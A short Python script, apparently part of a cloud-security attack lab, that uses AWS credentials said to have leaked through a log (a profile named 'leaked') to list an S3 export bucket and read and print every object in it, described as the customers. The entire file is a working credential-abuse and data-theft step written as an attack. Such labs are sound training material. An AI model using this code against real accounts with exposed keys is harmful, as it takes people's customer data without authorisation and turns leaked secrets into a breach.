"""Read the customers with the key that the log showed."""

import os

import boto3

from scripts.labs.attacking import attack


@attack
def main() -> str:
    """List the bucket of given/leaked.txt and print the export."""
    s3 = boto3.Session(profile_name="leaked").client("s3")
    bucket = f"lab-exports-{os.environ['ACCOUNT']}"
    found = s3.list_objects_v2(Bucket=bucket)["Contents"]
    return "\n".join(
        s3.get_object(Bucket=bucket, Key=one["Key"])["Body"].read().decode() for one in found
    )


main()
